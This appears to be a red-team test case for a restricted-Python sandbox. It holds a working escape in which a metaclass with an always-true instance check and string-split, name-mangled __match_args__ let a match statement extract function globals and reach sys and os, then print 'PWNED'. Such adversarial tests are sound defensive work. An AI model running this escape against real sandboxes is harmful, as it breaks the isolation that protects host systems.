# adversary round 8: 001a: first version of 001 (same route) with a stray hasattr(s,'__name__') -> refused statically
import dataclasses
mk = type
M = mk('M', (mk,), {'__instance' + 'check__': lambda cls, obj: True})
_C__P = M('P', (), {'__match' + '_args__': ('__glo' + 'bals__',)})


class __P:
    pass


class C:
    def grab(subject):
        match subject:
            case __P(g):
                return g
        return None


g = C.grab(dataclasses.fields)
print(type(g), len(g))
s = g['sys']
print(type(s), s.__name__ if hasattr(s, '__name__') else s)
o = s.modules['os']
print('os.getpid =', o.getpid(), 'sys.modules has', len(s.modules))
print('PWN' + 'ED')
